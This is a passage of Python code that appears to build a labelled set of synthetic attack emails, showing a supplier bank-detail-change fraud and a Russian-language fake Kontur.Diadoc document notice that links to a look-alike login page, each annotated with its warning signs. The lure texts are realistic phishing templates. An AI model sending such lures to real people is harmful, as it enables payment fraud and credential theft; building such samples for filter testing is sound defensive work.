              frm=frm, to=[S("ru_acc")], subject="Письмо о смене банковских реквизитов", t=t, zone="MSK", hcs="windows-1251", hmode="B",
              body=lambda k: Multi("mixed", [alt(k, text, html_outlook(text, "windows-1251", "RU"), "windows-1251", quote_cs=True),
                                             PDF("Pismo_o_smene_rekvizitov_311.pdf", letter, fn_style="plain")], k.bd(),
                                   preamble="This is a multipart message in MIME format."),
              tags=["supplier bank-detail change (BEC)", "look-alike domain on VPS", "forged PDF letter"],
              what="Print supplier 'changes bank details' (new T-Bank account, valid BIK key) and asks to pay two open invoices (RUB 86,450) there.",
              why="Look-alike domain nevskaya-tip.com (real: nevskaya-tip.ru) on a VPS without reverse DNS; change of bank tied to specific open invoices; genuine supplier sends from Yandex 360 on its .ru domain and its INN/KPP were copied.",
              pair="business 39")


def a40():
    t = T("2026-11-30 09:02:46", "MSK")
    frm = ("Контур.Диадок", "noreply@diadoc-kontur-edo.ru")
    url = "https://auth.diadoc-kontur-edo.ru/login?returnUrl=%2Fdocument%2F7f3c1a2e&u=" + b64u(S("ru_acc")[1])
    text = """Вам поступил документ на подпись

Отправитель: ООО «Невская типография»
Документ: УПД № 1211 от 27.11.2026 на сумму 48 900,00 руб.
Получатель: ООО «Экзампл Груп Рус»

Документ требует подписи до 02.12.2026. Чтобы просмотреть и подписать документ, войдите в Диадок:
%s

Это письмо сформировано автоматически, отвечать на него не нужно.
Контур.Диадок — система электронного документооборота
""" % url
    inner = ("<p style='font-size:18px'><b>Вам поступил документ на подпись</b></p>"
             "<table cellpadding='3' style='font-size:14px'><tr><td>Отправитель:</td><td>ООО «Невская типография»</td></tr>"
             "<tr><td>Документ:</td><td>УПД № 1211 от 27.11.2026 на сумму 48 900,00 руб.</td></tr>"
             "<tr><td>Получатель:</td><td>ООО «Экзампл Груп Рус»</td></tr></table>"
             "<p>Документ требует подписи до <b>02.12.2026</b>.</p>" + button(url, "Перейти к документу", "#1a73b8"))
    html = phish_html("Контур.Диадок", "#1a73b8", inner, "Это письмо сформировано автоматически, отвечать на него не нужно.", lang="ru")
    return mk(F, 40, "ru", "edo-diadoc-document-phish-sendgrid",
              infra=P(I.sendgrid, em_domain="em7734.diadoc-kontur-edo.ru"), frm=frm, to=[S("ru_acc")],
              subject="Диадок: новый документ от ООО «Невская типография» — УПД № 1211", t=t, zone="MSK",
              body=lambda k: alt(k, text, html, "utf-8"),
              tags=["credential phishing", "e-invoicing / EDI lure", "abused ESP (SendGrid)"],
              what="Fake Kontur.Diadoc notice of a UPD (universal transfer document) from the real print supplier awaiting signature, linking to a look-alike login.",
              why="Look-alike domain diadoc-kontur-edo.ru sent through SendGrid; login link to the same look-alike; genuine Diadoc notices come from diadoc.kontur.ru and link to diadoc.kontur.ru.",
              pair="business 38")


ATTACKS = [a27, a28, a29, a30, a31, a32, a33, a34, a35, a36, a37, a38, a39, a40]
